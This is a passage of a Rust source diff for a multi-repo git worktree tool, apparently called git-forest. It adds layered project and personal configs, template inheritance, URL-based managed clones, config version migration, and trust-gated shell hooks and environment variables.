@@ -1,13 +1,15 @@
 use anyhow::{anyhow, bail, ensure, Context, Result};
 use serde::{Deserialize, Serialize};
-use std::collections::{BTreeMap, HashSet};
-use std::path::{Path, PathBuf};
+use std::borrow::Cow;
+use std::collections::{BTreeMap, BTreeSet, HashSet};
+use std::path::{Component, Path, PathBuf};
 
 use crate::channel;
 use crate::meta::META_FILENAME;
 use crate::paths::{
     expand_tilde, validate_disposable_root_entries, AbsolutePath, DisposableRootEntry, RepoName,
 };
+use crate::schema::{Parsed, Schema};
 
 // --- Raw deserialization structs (TOML shape) ---
 
@@ -15,6 +17,13 @@ use crate::paths::{
 pub struct MultiTemplateConfig {
     pub default_template: String,
     pub template: BTreeMap<String, TemplateConfig>,
+    /// Personal overrides for same-named templates of a project config.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub project: BTreeMap<String, TemplateConfig>,
+    /// Project configs allowed to run hooks, set env, and pick the default
+    /// template, with the git blob hash of the contents that were trusted.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub trusted_projects: BTreeMap<PathBuf, String>,
     #[serde(default)]
     pub version_check: Option<VersionCheckConfig>,
 }
@@ -29,25 +38,114 @@ fn default_true() -> bool {
     true
 }
 
-#[derive(Debug, Clone, Serialize, Deserialize)]
+/// Fields left unset are inherited from the `extends` template; a template
+/// without `extends` must set `worktree_base`, `base_branch`, and
+/// `feature_branch_template` itself.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
 pub struct TemplateConfig {
-    pub worktree_base: PathBuf,
-    pub base_branch: String,
-    pub feature_branch_template: String,
+    /// Template to inherit unset fields, `env`, and repos from.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub extends: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub worktree_base: Option<PathBuf>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub base_branch: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub feature_branch_template: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub disposable_root_entries: Option<Vec<DisposableRootEntry>>,
+    /// Shell command run in each new worktree (repos may override).
+    #[serde(default)]
+    pub post_create: Option<String>,
+    /// Shell command run in each worktree before it is removed (repos may override).
+    #[serde(default)]
+    pub pre_remove: Option<String>,
+    /// Extra environment variables for `exec` and hooks, snapshotted into each forest.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub env: BTreeMap<String, String>,
+    /// Added to the inherited repos; an entry with an inherited repo's name replaces it.
     #[serde(default)]
-    pub disposable_root_entries: Vec<DisposableRootEntry>,
     pub repos: Vec<RepoConfig>,
+    /// Names of inherited repos to leave out.
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub remove_repos: Vec<String>,
 }
 
+/// A repo needs a `path`, a `url`, or both. With only a `url`, it lives in a
+/// managed clone (see `managed_clone_path`).
 #[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct RepoConfig {
-    pub path: PathBuf,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub path: Option<PathBuf>,
+    /// Cloned into `path` the first time `init`, `new`, or `add-repo` needs it.
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub url: Option<String>,
     #[serde(default)]
     pub name: Option<String>,
     #[serde(default)]
     pub base_branch: Option<String>,
     #[serde(default)]
     pub remote: Option<String>,
+    /// Overrides the template's `post_create`; an empty string disables it.
+    #[serde(default)]
+    pub post_create: Option<String>,
+    /// Overrides the template's `pre_remove`; an empty string disables it.
+    #[serde(default)]
+    pub pre_remove: Option<String>,
+}
+
+impl RepoConfig {
+    /// The configured `name`, else the last component of `path` or `url`.
+    pub fn name_or_default(&self) -> String {
+        self.name
+            .clone()
+            .unwrap_or_else(|| match (&self.path, &self.url) {
+                (Some(path), _) => path
+                    .file_name()
+                    .map(|n| n.to_string_lossy().to_string())
+                    .unwrap_or_default(),
+                (None, Some(url)) => url_repo_name(url),
+                (None, None) => String::new(),
+            })
+    }
+}
+
+/// Whether a `--repo` value names a remote to clone rather than a local path:
+/// `scheme://...` or scp-like `user@host:path`.
+pub fn is_repo_url(spec: &str) -> bool {
+    if spec.contains("://") {
+        return true;
+    }
+    spec.split_once(':')
+        .is_some_and(|(host, _)| host.contains('@') && !host.contains('/'))
+}
+
+/// Last path segment of `url`, without `.git`.
+pub fn url_repo_name(url: &str) -> String {
+    let normalized = crate::manifest::normalize_remote_url(url);
+    normalized
+        .rsplit('/')
+        .next()
+        .unwrap_or_default()
+        .to_string()
+}
+
+/// Where a repo configured with only a `url` is cloned: under the data
+/// directory, at the URL's host and path (`repos/github.com/org/api`).
+pub fn managed_clone_path(url: &str) -> Result<AbsolutePath> {
+    let normalized = crate::manifest::normalize_remote_url(url);
+    let relative: PathBuf = Path::new(&normalized)
+        .components()
+        .filter(|component| matches!(component, Component::Normal(_)))
+        .collect();
+    ensure!(
+        relative.components().next().is_some(),
+        "cannot derive a clone location from url {:?}\n  hint: set path for this repo",
+        url
+    );
+    let path = xdg_data_dir()?.join("repos").join(relative);
+    AbsolutePath::new(path.clone())
+        .with_context(|| format!("clone location {} is not absolute", path.display()))
 }
 
 // --- Resolved types (post-parse) ---
@@ -55,9 +153,15 @@ pub struct RepoConfig {
 #[derive(Debug, Clone)]
 pub struct ResolvedRepo {
     pub path: AbsolutePath,
+    /// Where to clone `path` from if it doesn't exist yet.
+    pub url: Option<String>,
     pub name: RepoName,
     pub base_branch: String,
     pub remote: String,
+    /// Effective post-create hook: the repo's own, else the template's.
+    pub post_create: Option<String>,
+    /// Effective pre-remove hook, resolved the same way as `post_create`.
+    pub pre_remove: Option<String>,
 }
 
 #[derive(Debug, Clone)]
@@ -73,6 +177,9 @@ pub struct ResolvedTemplate {
     pub base_branch: String,
     pub feature_branch_template: String,
     pub disposable_root_entries: Vec<DisposableRootEntry>,
+    pub post_create: Option<String>,
+    pub pre_remove: Option<String>,
+    pub env: BTreeMap<String, String>,
     pub repos: Vec<ResolvedRepo>,
 }
 
@@ -118,6 +225,18 @@ pub(crate) fn xdg_config_dir() -> Result<PathBuf> {
     })
 }
 
+/// Returns the XDG data directory for git-forest.
+///
+/// Resolution order:
+/// 1. `$XDG_DATA_HOME/git-forest/` (if env var set)
+/// 2. `~/.local/share/git-forest/` (Unix/macOS default)
+/// 3. `directories` crate fallback (Windows)
+pub(crate) fn xdg_data_dir() -> Result<PathBuf> {
+    xdg_dir("XDG_DATA_HOME", ".local/share", |proj| {
+        proj.data_dir().to_path_buf()
+    })
+}
+
 /// Returns the XDG state directory for git-forest.
 ///
 /// Resolution order:
@@ -179,117 +298,481 @@ pub fn default_config_path() -> Result<PathBuf> {
     Ok(xdg_config_dir()?.join("config.toml"))
 }
 
+/// Load the personal config, layered over the project config found from cwd.
+///
+/// A config in an older layout is upgraded in memory only; `config migrate`
+/// rewrites the file.
 pub fn load_default_config() -> Result<ResolvedConfig> {
     let path = default_config_path()?;
+    let personal = read_versioned_config(&path)?;
+    if personal.from < CONFIG_VERSION {
+        eprintln!(
+            "note: config {} uses config_version {}; reading it as {}\n  hint: run `git forest config migrate` to upgrade the file",
+            path.display(),
+            personal.from,
+            CONFIG_VERSION
+        );
+    }
+    let layered = resolve_from_cwd(&personal.value, &path)?;
+    if layered.project_settings_ignored {
+        if let Some(project) = &layered.project_path {
+            eprintln!(
+                "note: ignoring hooks, env, and default_template in untrusted project config {}\n  hint: review it, then run `git forest config trust` to apply them",
+                project.display()
+            );
+        }
+    }
+    Ok(layered.config)
+}
+
+pub fn load_config(path: &Path) -> Result<ResolvedConfig> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("failed to read config from {}", path.display()))?;
+    parse_config(&contents)
+}
+
+/// Read the config in its on-disk shape, for edits that must preserve it.
+///
+/// A config in an older layout is upgraded in place first, keeping the
+/// original next to it as `config.toml.v<N>.bak`. Only for commands that
+/// write the config anyway; reads use `read_versioned_config`.
+pub fn load_raw_config(path: &Path) -> Result<MultiTemplateConfig> {
+    let parsed = read_versioned_config(path)?;
+    if parsed.from < CONFIG_VERSION {
+        let backup = upgrade_config_file(path, &parsed)?;
+        eprintln!(
+            "note: upgraded config {} from config_version {} to {}\n  backup: {}",
+            path.display(),
+            parsed.from,
+            CONFIG_VERSION,
+            backup.display()
+        );
+    }
+    Ok(parsed.value)
+}
+
+/// Read the config and upgrade it in memory, leaving the file untouched.
+pub fn read_versioned_config(path: &Path) -> Result<Parsed<MultiTemplateConfig>> {
     ensure!(
         path.exists(),
         "config not found at {}\n  hint: run `git forest init` to create one",
         path.display()
     );
-    load_config(&path)
-}
-
-pub fn load_config(path: &Path) -> Result<ResolvedConfig> {
     let contents = std::fs::read_to_string(path)
         .with_context(|| format!("failed to read config from {}", path.display()))?;
-    parse_config(&contents)
+    CONFIG_SCHEMA.parse(&contents)
 }
 
+/// Copy the config at `path` to a backup, then rewrite it at
+/// `CONFIG_VERSION`. Returns the backup's path.
+pub fn upgrade_config_file(path: &Path, parsed: &Parsed<MultiTemplateConfig>) -> Result<PathBuf> {
+    resolve_layered(&parsed.value, path, None).with_context(|| {
+        format!(
+            "config upgraded from config_version {} is invalid; {} was left unchanged",
+            parsed.from,
+            path.display()
+        )
+    })?;
+    let backup = path.with_extension(format!("toml.v{}.bak", parsed.from));
+    std::fs::copy(path, &backup)
+        .with_context(|| format!("failed to back up config to {}", backup.display()))?;
+    write_raw_config_atomic(path, &parsed.value)?;
+    Ok(backup)
+}
+
+/// Parse a personal config on its own, without any project config.
 pub fn parse_config(contents: &str) -> Result<ResolvedConfig> {
-    let raw: MultiTemplateConfig =
-        toml::from_str(contents).context("failed to parse config TOML")?;
+    let raw: MultiTemplateConfig = CONFIG_SCHEMA.parse(contents)?.value;
+    Ok(resolve_layered(&raw, Path::new(""), None)?.config)
+}
 
-    let mut templates = BTreeMap::new();
+// --- Config versions ---
 
-    for (tmpl_name, tmpl_config) in &raw.template {
-        let worktree_base = expand_tilde(tmpl_config.worktree_base.to_str().unwrap_or(""))
-            .with_context(|| format!("template {:?}: invalid worktree_base", tmpl_name))?;
+/// Layout written by this version of git-forest, recorded as `config_version`.
+///
+/// 1. A single `[general]` table with top-level `[[repos]]`
+/// 2. Named `[template.<name>]` tables and `default_template`
+pub const CONFIG_VERSION: u32 = 2;
+
+pub const CONFIG_SCHEMA: Schema = Schema {
+    what: "config",
+    version_key: "config_version",
+    current: CONFIG_VERSION,
+    detect: detect_config_version,
+    migrations: &[migrate_general_to_template],
+};
 
-        if tmpl_config.repos.is_empty() {
-            bail!("template {:?}: must have at least one repo", tmpl_name);
-        }
+fn detect_config_version(table: &toml::Table) -> u32 {
+    if table.contains_key("general") || table.contains_key("repos") {
+        1
+    } else {
+        2
+    }
+}
 
-        if !tmpl_config.feature_branch_template.contains("{name}") {
-            bail!(
-                "template {:?}: feature_branch_template must contain {{name}}",
-                tmpl_name
-            );
+/// Move `[general]` and `[[repos]]` into a `default` template. Also accepts
+/// the earliest spelling: `branch_template` with a `{user}` filled from
+/// `username`, per-repo `branch_base`, and the since-removed repo `type`.
+fn migrate_general_to_template(table: &mut toml::Table) -> Result<()> {
+    let mut template = match table.remove("general") {
+        Some(toml::Value::Table(general)) => general,
+        Some(_) => bail!("general must be a table"),
+        None => toml::Table::new(),
+    };
+    let username = match template.remove("username") {
+        Some(toml::Value::String(username)) => Some(username),
+        Some(_) => bail!("general.username must be a string"),
+        None => None,
+    };
+    if let Some(branch_template) = template.remove("branch_template") {
+        let Some(branch_template) = branch_template.as_str() else {
+            bail!("general.branch_template must be a string");
+        };
+        ensure!(
+            !template.contains_key("feature_branch_template"),
+            "general sets both branch_template and feature_branch_template"
+        );
+        let feature_branch_template = match &username {
+            Some(username) => branch_template.replace("{user}", username),
+            None => {
+                ensure!(
+                    !branch_template.contains("{user}"),
+                    "general.branch_template uses {{user}} but general.username is not set\n  hint: add username to [general], then rerun"
+                );
+                branch_template.to_string()
+            }
+        };
+        template.insert(
+            "feature_branch_template".to_string(),
+            toml::Value::String(feature_branch_template),
+        );
+    }
+
+    let mut repos = match table.remove("repos") {
+        Some(toml::Value::Array(repos)) => repos,
+        Some(_) => bail!("repos must be an array of tables"),
+        None => Vec::new(),
+    };
+    for repo in &mut repos {
+        let Some(repo) = repo.as_table_mut() else {
+            bail!("repos must be an array of tables");
+        };
+        repo.remove("type");
+        if let Some(base_branch) = repo.remove("branch_base") {
+            repo.entry("base_branch").or_insert(base_branch);
         }
+    }
+    template.insert("repos".to_string(), toml::Value::Array(repos));
 
-        let mut repos = Vec::new();
-        let mut names = HashSet::new();
+    table.insert(
+        "default_template".to_string(),
+        toml::Value::String("default".to_string()),
+    );
+    table.insert(
+        "template".to_string(),
+        toml::Value::Table(toml::Table::from_iter([(
+            "default".to_string(),
+            toml::Value::Table(template),
+        )])),
+    );
+    Ok(())
+}
 
-        for repo in &tmpl_config.repos {
-            let path = expand_tilde(repo.path.to_str().unwrap_or(""))
-                .with_context(|| format!("template {:?}: invalid repo path", tmpl_name))?;
+// --- Project config ---
 
-            let name_str = repo.name.clone().unwrap_or_else(|| {
-                path.file_name()
-                    .map(|n| n.to_string_lossy().to_string())
-                    .unwrap_or_default()
-            });
+/// Committed per-project config, found in cwd or one of its parents.
+pub const PROJECT_CONFIG_FILENAME: &str = ".git-forest.toml";
 
-            let name = RepoName::new(name_str).with_context(|| {
-                format!(
-                    "template {:?}: repo has empty name (path: {})",
-                    tmpl_name,
-                    path.display()
-                )
-            })?;
+/// A `.git-forest.toml`: the repos, remotes, base branches, hooks, and
+/// disposable entries a project's templates share. Each user's own config
+/// supplies `worktree_base` and `feature_branch_template`.
+///
+/// Hooks, env, and the default template only apply once the user trusts the
+/// file with `git forest config trust`.
+#[derive(Debug, Clone, Deserialize)]
+pub struct ProjectConfig {
+    #[serde(skip)]
+    pub path: PathBuf,
+    /// Git blob hash of the file, compared against `trusted_projects`.
+    #[serde(skip)]
+    pub hash: String,
+    #[serde(default)]
+    pub default_template: Option<String>,
+    pub template: BTreeMap<String, TemplateConfig>,
+}
 
-            if !names.insert(name.to_string()) {
-                bail!("template {:?}: duplicate repo name: {}", tmpl_name, name);
-            }
+impl ProjectConfig {
+    /// The declared default, or the only template.
+    fn default_template(&self) -> Option<&str> {
+        match (&self.default_template, self.template.len()) {
+            (Some(name), _) => Some(name),
+            (None, 1) => self.template.keys().next().map(String::as_str),
+            (None, _) => None,
+        }
+    }
 
-            let base_branch = repo
-                .base_branch
-                .clone()
-                .unwrap_or_else(|| tmpl_config.base_branch.clone());
+    /// Whether `personal` trusts this file as it is now.
+    pub fn is_trusted_by(&self, personal: &MultiTemplateConfig) -> bool {
+        personal.trusted_projects.get(&trust_key(&self.path)) == Some(&self.hash)
+    }
 
-            let remote = repo.remote.clone().unwrap_or_else(|| "origin".to_string());
+    /// Whether the file sets anything that is ignored until it is trusted.
+    fn needs_trust(&self) -> bool {
+        self.default_template().is_some() || self.template.values().any(runs_commands)
+    }
+}
 
-            repos.push(ResolvedRepo {
-                path,
+/// Key of a project config in `trusted_projects`.
+pub fn trust_key(path: &Path) -> PathBuf {
+    path.canonicalize().unwrap_or_else(|_| path.to_path_buf())
+}
+
+fn runs_commands(tmpl: &TemplateConfig) -> bool {
+    tmpl.post_create.is_some()
+        || tmpl.pre_remove.is_some()
+        || !tmpl.env.is_empty()
+        || tmpl
+            .repos
+            .iter()
+            .any(|repo| repo.post_create.is_some() || repo.pre_remove.is_some())
+}
+
+/// `tmpl` without the hooks and env an untrusted project config can't set.
+fn without_commands(tmpl: &TemplateConfig) -> TemplateConfig {
+    TemplateConfig {
+        post_create: None,
+        pre_remove: None,
+        env: BTreeMap::new(),
+        repos: tmpl
+            .repos
+            .iter()
+            .map(|repo| RepoConfig {
+                post_create: None,
+                pre_remove: None,
+                ..repo.clone()
+            })
+            .collect(),
+        ..tmpl.clone()
+    }
+}
+
+/// Nearest `.git-forest.toml` in `start` or one of its ancestors.
+pub fn discover_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_CONFIG_FILENAME))
+        .find(|path| path.is_file())
+}
+
+pub fn load_project_config(path: &Path) -> Result<ProjectConfig> {
+    let contents = std::fs::read_to_string(path)
+        .with_context(|| format!("failed to read project config from {}", path.display()))?;
+    let mut project: ProjectConfig = toml::from_str(&contents)
+        .with_context(|| format!("failed to parse project config {}", path.display()))?;
+    let dir = path.parent().unwrap_or(Path::new("/"));
+
+    for (name, tmpl) in &mut project.template {
+        for (key, is_set) in [
+            ("extends", tmpl.extends.is_some()),
+            ("remove_repos", !tmpl.remove_repos.is_empty()),
+            ("worktree_base", tmpl.worktree_base.is_some()),
+            (
+                "feature_branch_template",
+                tmpl.feature_branch_template.is_some(),
+            ),
+        ] {
+            ensure!(
+                !is_set,
+                "{}: template {:?} sets {}, which a project config can't\n  hint: set it in your own config, under [project.{}] to apply it to this project only",
+                path.display(),
                 name,
-                base_branch,
-                remote,
-            });
+                key,
+                name
+            );
         }
+        // Relative repo paths are relative to the project file, so it works
+        // wherever the project is cloned.
+        for path in tmpl.repos.iter_mut().filter_map(|repo| repo.path.as_mut()) {
+            if path.is_relative() && !path.starts_with("~") {
+                *path = join_lexically(dir, path);
+            }
+        }
+    }
 
-        validate_disposable_root_entries(
-            &tmpl_config.disposable_root_entries,
-            std::iter::once(META_FILENAME).chain(repos.iter().map(|repo| repo.name.as_str())),
-        )
-        .with_context(|| format!("template {:?}: invalid disposable root entries", tmpl_name))?;
+    if let Some(default) = &project.default_template {
+        ensure!(
+            project.template.contains_key(default),
+            "{}: default_template {:?} is not a template in this file",
+            path.display(),
+            default
+        );
+    }
+    project.path = path.to_path_buf();
+    project.hash = crate::git::git(
+        dir,
+        &["hash-object", "--no-filters", "--", &path.to_string_lossy()],
+    )
+    .with_context(|| format!("failed to hash project config {}", path.display()))?;
+    Ok(project)
+}
 
-        let resolved_tmpl = ResolvedTemplate {
-            worktree_base,
-            base_branch: tmpl_config.base_branch.clone(),
-            feature_branch_template: tmpl_config.feature_branch_template.clone(),
-            disposable_root_entries: tmpl_config.disposable_root_entries.clone(),
-            repos,
+/// `base.join(rel)` with `.` and `..` components folded away.
+fn join_lexically(base: &Path, rel: &Path) -> PathBuf {
+    let mut joined = base.to_path_buf();
+    for component in rel.components() {
+        match component {
+            Component::CurDir => {}
+            Component::ParentDir => {
+                joined.pop();
+            }
+            other => joined.push(other),
+        }
+    }
+    joined
+}
+
+// --- Layered resolution ---
+
+/// Where a resolved config value was set.
+#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize)]
+#[serde(rename_all = "snake_case", tag = "source")]
+pub enum ConfigOrigin {
+    /// The user's own config file.
+    Personal {
+        path: PathBuf,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        section: Option<String>,
+    },
+    /// A `.git-forest.toml` found from cwd.
+    Project {
+        path: PathBuf,
+        #[serde(skip_serializing_if = "Option::is_none")]
+        section: Option<String>,
+    },
+    /// Not set anywhere; git-forest's built-in default.
+    #[default]
+    Default,
+}
+
+impl std::fmt::Display for ConfigOrigin {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        let (kind, path, section) = match self {
+            Self::Personal { path, section } => ("personal config", path, section),
+            Self::Project { path, section } => ("project config", path, section),
+            Self::Default => return write!(f, "built-in default"),
         };
+        write!(f, "{} {}", kind, path.display())?;
+        if let Some(section) = section {
+            write!(f, " [{}]", section)?;
+        }
+        Ok(())
+    }
+}
 
-        // Collection-level invariant, not expressible as newtype
-        debug_assert!(
-            {
-                let names: HashSet<&str> = resolved_tmpl
-                    .repos
-                    .iter()
-                    .map(|r| r.name.as_str())
-                    .collect();
-                names.len() == resolved_tmpl.repos.len()
-            },
-            "repo names must be unique"
-        );
+#[derive(Debug, Clone, Default)]
+pub struct TemplateOrigins {
+    pub worktree_base: ConfigOrigin,
+    pub base_branch: ConfigOrigin,
+    pub feature_branch_template: ConfigOrigin,
+    pub disposable_root_entries: ConfigOrigin,
+    pub post_create: ConfigOrigin,
+    pub pre_remove: ConfigOrigin,
+    pub env: BTreeMap<String, ConfigOrigin>,
+    pub repos: BTreeMap<String, RepoOrigins>,
+}
+
+#[derive(Debug, Clone, Default)]
+pub struct RepoOrigins {
+    /// Layer whose repo entry won.
+    pub entry: ConfigOrigin,
+    pub base_branch: ConfigOrigin,
+    pub remote: ConfigOrigin,
+}
+
+/// A resolved config and where each of its values came from.
+#[derive(Debug)]
+pub struct LayeredConfig {
+    pub config: ResolvedConfig,
+    pub project_path: Option<PathBuf>,
+    /// Whether the project config is trusted (see `ProjectConfig::is_trusted_by`).
+    pub project_trusted: bool,
+    /// Whether an untrusted project config's hooks, env, or default template
+    /// were left out.
+    pub project_settings_ignored: bool,
+    pub default_template_origin: ConfigOrigin,
+    pub origins: BTreeMap<String, TemplateOrigins>,
+}
 
-        templates.insert(tmpl_name.clone(), resolved_tmpl);
+/// Resolve a personal config as a command run from cwd sees it.
+pub fn resolve_from_cwd(
+    personal: &MultiTemplateConfig,
+    personal_path: &Path,
+) -> Result<LayeredConfig> {
+    let cwd = std::env::current_dir().context("failed to determine current directory")?;
+    let project = discover_project_config(&cwd)
+        .map(|path| load_project_config(&path))
+        .transpose()?;
+    resolve_layered(personal, personal_path, project.as_ref())
+}
+
+/// Resolve every template, lowest precedence first:
+///
+/// 1. built-in defaults;
+/// 2. for project templates, `worktree_base` and `feature_branch_template`
+///    from the personal default template;
+/// 3. the project's `[template.<name>]`;
+/// 4. the personal `[project.<name>]` overrides.
+///
+/// A personal `[template.<name>]` replaces a project template of the same
+/// name, and `extends` layers a template over its parent's resolved layers.
+/// An untrusted project contributes no hooks or env and doesn't change the
+/// default template.
+pub fn resolve_layered(
+    personal: &MultiTemplateConfig,
+    personal_path: &Path,
+    project: Option<&ProjectConfig>,
+) -> Result<LayeredConfig> {
+    let project_trusted = project.is_some_and(|p| p.is_trusted_by(personal));
+    let layers = Layers {
+        personal,
+        personal_path,
+        project,
+        project_trusted,
+    };
+
+    let mut templates = BTreeMap::new();
+    let mut origins = BTreeMap::new();
+    for name in layers.names() {
+        let (flattened, tmpl_origins) = fold_layers(name, layers.chain(name, &mut Vec::new())?)?;
+        templates.insert(name.to_string(), validate_template(name, &flattened)?);
+        origins.insert(name.to_string(), tmpl_origins);
     }
 
+    // Inside a trusted project, its default template is the default
+    let (default_template, default_template_origin) = match project
+        .filter(|_| project_trusted)
+        .and_then(|p| p.default_template().map(|name| (p, name)))
+    {
+        Some((project, name)) => (
+            name.to_string(),
+            ConfigOrigin::Project {
+                path: project.path.clone(),
+                section: None,
+            },
+        ),
+        None => (
+            personal.default_template.clone(),
+            ConfigOrigin::Personal {
+                path: personal_path.to_path_buf(),
+                section: None,
+            },
+        ),
+    };
+
     let resolved = ResolvedConfig {
-        default_template: raw.default_template.clone(),
+        default_template,
         templates,
-        version_check: raw.version_check.clone(),
+        version_check: personal.version_check.clone(),
     };
 
     // Validate default_template references an existing key
@@ -303,7 +786,407 @@ pub fn parse_config(contents: &str) -> Result<ResolvedConfig> {
         );
     }
 
-    Ok(resolved)
+    Ok(LayeredConfig {
+        config: resolved,
+        project_path: project.map(|p| p.path.clone()),
+        project_trusted,
+        project_settings_ignored: project.is_some_and(|p| !project_trusted && p.needs_trust()),
+        default_template_origin,
+        origins,
+    })
+}
+
+struct Layers<'a> {
+    personal: &'a MultiTemplateConfig,
+    personal_path: &'a Path,
+    project: Option<&'a ProjectConfig>,
+    project_trusted: bool,
+}
+
+/// One template section applied on top of the layers below it.
+struct Layer<'a> {
+    config: Cow<'a, TemplateConfig>,
+    origin: ConfigOrigin,
+}
+
+impl<'a> Layers<'a> {
+    fn names(&self) -> BTreeSet<&'a str> {
+        let project = self.project.into_iter().flat_map(|p| p.template.keys());
+        self.personal
+            .template
+            .keys()
+            .chain(project)
+            .map(String::as_str)
+            .collect()
+    }
+
+    fn personal_layer(&self, section: &str, name: &str, config: &'a TemplateConfig) -> Layer<'a> {
+        Layer {
+            config: Cow::Borrowed(config),
+            origin: ConfigOrigin::Personal {
+                path: self.personal_path.to_path_buf(),
+                section: Some(format!("{}.{}", section, name)),
+            },
+        }
+    }
+
+    /// Layers making up template `name`, lowest precedence first.
+    fn chain(&self, name: &str, stack: &mut Vec<String>) -> Result<Vec<Layer<'a>>> {
+        if let Some(start) = stack.iter().position(|seen| seen == name) {
+            let mut cycle = stack[start..].to_vec();
+            cycle.push(name.to_string());
+            bail!(
+                "template {:?}: extends cycle: {}",
+                stack[0],
+                cycle.join(" -> ")
+            );
+        }
+        stack.push(name.to_string());
+
+        let mut layers = Vec::new();
+        if let Some(tmpl) = self.personal.template.get(name) {
+            if let Some(parent) = tmpl.extends.as_deref() {
+                let names = self.names();
+                ensure!(
+                    names.contains(parent),
+                    "template {:?}: extends unknown template {:?}\n  hint: available templates: {}",
+                    name,
+                    parent,
+                    names.into_iter().collect::<Vec<_>>().join(", ")
+                );
+                layers = self.chain(parent, stack)?;
+            }
+            layers.push(self.personal_layer("template", name, tmpl));
+        } else if let Some(project) = self.project {
+            layers = self.personal_defaults(name);
+            let tmpl = &project.template[name];
+            layers.push(Layer {
+                config: if self.project_trusted {
+                    Cow::Borrowed(tmpl)
+                } else {
+                    Cow::Owned(without_commands(tmpl))
+                },
+                origin: ConfigOrigin::Project {
+                    path: project.path.clone(),
+                    section: Some(format!("template.{}", name)),
+                },
+            });
+            if let Some(overrides) = self.personal.project.get(name) {
+                ensure!(
+                    overrides.extends.is_none(),
+                    "[project.{}]: overrides can't use extends",
+                    name
+                );
+                layers.push(self.personal_layer("project", name, overrides));
+            }
+        }
+
+        stack.pop();
+        Ok(layers)
+    }
+
+    /// `worktree_base` and `feature_branch_template` of the personal default
+    /// template, for a project template to fall back on.
+    fn personal_defaults(&self, name: &str) -> Vec<Layer<'a>> {
+        // Only personal templates; a broken chain is reported when the
+        // default template itself resolves.
+        let mut chain: Vec<(&str, &TemplateConfig)> = Vec::new();
+        let mut next = Some(self.personal.default_template.as_str());
+        while let Some(current) = next {
+            if current == name || chain.iter().any(|(seen, _)| *seen == current) {
+                break;
+            }
+            let Some(tmpl) = self.personal.template.get(current) else {
+                break;
+            };
+            chain.push((current, tmpl));
+            next = tmpl.extends.as_deref();
+        }
+
+        chain
+            .into_iter()
+            .rev()
+            .map(|(current, tmpl)| Layer {
+                config: Cow::Owned(TemplateConfig {
+                    worktree_base: tmpl.worktree_base.clone(),
+                    feature_branch_template: tmpl.feature_branch_template.clone(),
+                    ..TemplateConfig::default()
+                }),
+                ..self.personal_layer("template", current, tmpl)
+            })
+            .collect()
+    }
+}
+
+/// Merge `layers` into one standalone template, recording each value's origin.
+fn fold_layers(name: &str, layers: Vec<Layer>) -> Result<(TemplateConfig, TemplateOrigins)> {
+    let mut merged = TemplateConfig::default();
+    let mut origins = TemplateOrigins::default();
+    let mut repo_entries = BTreeMap::new();
+
+    for layer in layers {
+        let tmpl = &*layer.config;
+        merged = inherit(merged, tmpl)
+            .with_context(|| format!("template {:?}: invalid {}", name, layer.origin))?;
+
+        for (is_set, origin) in [
+            (tmpl.worktree_base.is_some(), &mut origins.worktree_base),
+            (tmpl.base_branch.is_some(), &mut origins.base_branch),
+            (
+                tmpl.feature_branch_template.is_some(),
+                &mut origins.feature_branch_template,
+            ),
+            (
+                tmpl.disposable_root_entries.is_some(),
+                &mut origins.disposable_root_entries,
+            ),
+            (tmpl.post_create.is_some(), &mut origins.post_create),
+            (tmpl.pre_remove.is_some(), &mut origins.pre_remove),
+        ] {
+            if is_set {
+                *origin = layer.origin.clone();
+            }
+        }
+        for key in tmpl.env.keys() {
+            origins.env.insert(key.clone(), layer.origin.clone());
+        }
+        for repo in &tmpl.repos {
+            repo_entries.insert(repo.name_or_default(), layer.origin.clone());
+        }
+    }
+
+    for repo in &merged.repos {
+        let name = repo.name_or_default();
+        let entry: ConfigOrigin = repo_entries.get(&name).cloned().unwrap_or_default();
+        let repo_origins = RepoOrigins {
+            base_branch: match repo.base_branch {
+                Some(_) => entry.clone(),
+                None => origins.base_branch.clone(),
+            },
+            remote: match repo.remote {
+                Some(_) => entry.clone(),
+                None => ConfigOrigin::Default,
+            },
+            entry,
+        };
+        origins.repos.insert(name, repo_origins);
+    }
+
+    Ok((merged, origins))
+}
+
+/// Validate a flattened template and resolve its paths and defaults.
+fn validate_template(tmpl_name: &str, tmpl_config: &TemplateConfig) -> Result<ResolvedTemplate> {
+    let required = |field: &Option<String>, key: &str| {
+        field.clone().ok_or_else(|| {
+            anyhow!(
+                "template {:?}: missing {}\n  hint: add {} to [template.{}] in your config",
+                tmpl_name,
+                key,
+                key,
+                tmpl_name
+            )
+        })
+    };
+    let worktree_base = required(
+        &tmpl_config
+            .worktree_base
+            .as_ref()
+            .map(|p| p.to_string_lossy().into_owned()),
+        "worktree_base",
+    )?;
+    let worktree_base = expand_tilde(&worktree_base)
+        .with_context(|| format!("template {:?}: invalid worktree_base", tmpl_name))?;
+    let tmpl_base_branch = required(&tmpl_config.base_branch, "base_branch")?;
+    let feature_branch_template = required(
+        &tmpl_config.feature_branch_template,
+        "feature_branch_template",
+    )?;
+    let disposable_root_entries = tmpl_config
+        .disposable_root_entries
+        .clone()
+        .unwrap_or_default();
+
+    if tmpl_config.repos.is_empty() {
+        bail!("template {:?}: must have at least one repo", tmpl_name);
+    }
+
+    if !feature_branch_template.contains("{name}") {
+        bail!(
+            "template {:?}: feature_branch_template must contain {{name}}",
+            tmpl_name
+        );
+    }
+
+    validate_env_names(&tmpl_config.env)
+        .with_context(|| format!("template {:?}: invalid env", tmpl_name))?;
+
